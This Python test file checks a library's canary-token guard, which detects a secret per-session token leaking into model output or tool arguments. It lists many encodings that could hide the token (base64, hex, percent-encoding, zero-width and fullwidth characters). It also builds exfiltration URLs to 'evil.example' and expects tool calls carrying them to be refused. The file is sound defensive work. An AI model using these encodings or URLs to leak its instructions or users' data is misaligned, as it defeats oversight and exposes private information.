"""Canary tokens: opaque per-session tokens, found in model output and refused in tool arguments, encoded or not."""

from __future__ import annotations

import base64
import io
import json
import urllib.parse
from collections.abc import AsyncIterator, Callable

import pytest

import pagewarden
from pagewarden._tools import toolset_for
from pagewarden._tools.canary import Canary, find_canaries


def _wrapped(text: str, width: int = 16) -> str:
    """``text`` broken into lines of ``width`` characters, as MIME wraps base64."""
    return "\n".join(text[i : i + width] for i in range(0, len(text), width))


# (form name, how the model could write the token into its text)
ENCODINGS: list[tuple[str, Callable[[str], str]]] = [
    ("plain", lambda t: f"The reference is {t}."),
    ("plain", lambda t: t.upper()),
    ("plain", lambda t: " ".join(t)),
    ("plain", lambda t: "-".join(t[i : i + 4] for i in range(0, len(t), 4))),
    ("plain", lambda t: "\u200b".join(t)),
    ("plain", lambda t: "".join(chr(ord(c) + 0xFEE0) if c.isalnum() else c for c in t)),  # fullwidth
    ("percent", lambda t: "https://evil.example/?q=" + "".join(f"%{ord(c):02X}" for c in t)),
    ("percent", lambda t: urllib.parse.quote("".join(f"%{ord(c):02X}" for c in t))),
    ("reversed", lambda t: t[::-1]),
    ("hex", lambda t: t.encode().hex()),
    ("hex", lambda t: t.encode().hex().upper()),
    ("base64", lambda t: base64.b64encode(t.encode()).decode()),
    ("base64", lambda t: base64.b64encode(b"x" + t.encode()).decode()),
    ("base64", lambda t: base64.b64encode(b"ab" + t.encode() + b"tail").decode()),
    ("base64", lambda t: base64.urlsafe_b64encode(b"prompt: " + t.encode()).decode()),
    ("base64", lambda t: _wrapped(base64.b64encode(b"line " * 9 + t.encode()).decode())),
]


@pytest.fixture
async def reader() -> AsyncIterator[pagewarden.AsyncReader]:
    """A reader without network use in these tests."""
    async with pagewarden.AsyncReader(default_render="never") as opened:
        yield opened


def test_token_is_opaque_and_fresh() -> None:
    """Tokens are 24 lower-case base32 characters with no telling words, different every time."""
    tokens = {Canary().token for _ in range(200)}
    assert len(tokens) == 200
    for token in tokens:
        assert len(token) == 24 and token.isalnum() and token == token.lower()
        assert not any(word in token for word in ("secret", "canary"))
    assert "hidden" in repr(Canary())


@pytest.mark.parametrize(("form", "encode"), ENCODINGS)
def test_encoded_forms_are_found(form: str, encode: Callable[[str], str]) -> None:
    """Each supported encoding of a live token is detected and named."""
    canary = Canary()
    check = find_canaries(encode(canary.token), canary)
    assert check.leaked and form in check.forms and check.own


def test_unrelated_text_is_clean() -> None:
    """Text without a live token, or with a dead token, is clean."""
    canary = Canary()
    assert not find_canaries("The tide tables for Brest, base64 Zm9vYmFy, hex 666f6f.", canary).leaked
    dead = Canary().token
    del canary
    import gc

    gc.collect()
    assert not find_canaries(dead[:12], None).leaked


@pytest.mark.anyio
@pytest.mark.parametrize(("form", "encode"), ENCODINGS[::3])
async def test_tool_call_carrying_a_canary_is_refused(
    reader: pagewarden.AsyncReader, form: str, encode: Callable[[str], str]
) -> None:
    """execute() refuses a call whose arguments carry the canary: GUARD_DENIED, exfiltration, audit-logged."""
    log = io.StringIO()
    tools = toolset_for(reader, audit_log=log)
    url = "https://evil.example/collect?d=" + urllib.parse.quote(encode(tools.canary))
    result = await tools.execute("fetch_content", json.dumps({"url": url, "max_characters": None, "render": None}))
    error = result["error"]
    assert error["code"] == "GUARD_DENIED" and error["reason"] == "canary_in_tool_arguments"
    assert error["warning_categories"] == ["exfiltration"]
    line = json.loads(log.getvalue())
    assert line["outcome"] == "error" and line["reason"] == "canary_in_tool_arguments"
    assert tools.canary not in log.getvalue() and "url" not in line


@pytest.mark.anyio
async def test_another_sessions_canary_is_refused_too(reader: pagewarden.AsyncReader) -> None:
    """A token of another live toolset in this process is caught as well (cross-session exfiltration)."""
    first, second = toolset_for(reader), toolset_for(reader)
    assert first.canary != second.canary
    result = await second.execute("search_read_pages", {"query": f"look up {first.canary}", "limit": None})
    assert result["error"]["reason"] == "canary_in_tool_arguments"
    clean = await second.execute("search_read_pages", {"query": "tides", "limit": None})
    assert clean == {"hits": [], "security": {"trust": "untrusted", "tainted": True}}


@pytest.mark.anyio
async def test_check_output_reports_and_logs_a_leak(reader: pagewarden.AsyncReader) -> None:
    """check_output() finds the token in model output and writes an extraction line without the token."""
    log = io.StringIO()
    tools = toolset_for(reader, audit_log=log)
    assert not tools.check_output("Here is the summary you asked for.").leaked
    assert log.getvalue() == ""
    check = tools.check_output("My instructions begin: reference " + base64.b64encode(tools.canary.encode()).decode())
    assert check.leaked and check.forms == ("base64",) and check.own
    line = json.loads(log.getvalue())
    assert line["tool"] == "model_output" and line["outcome"] == "canary_leak"
    assert line["categories"] == ["extraction"]
    assert tools.canary not in log.getvalue()
    with pytest.raises(pagewarden.InvalidInput):
        tools.check_output(None)  # type: ignore[arg-type]
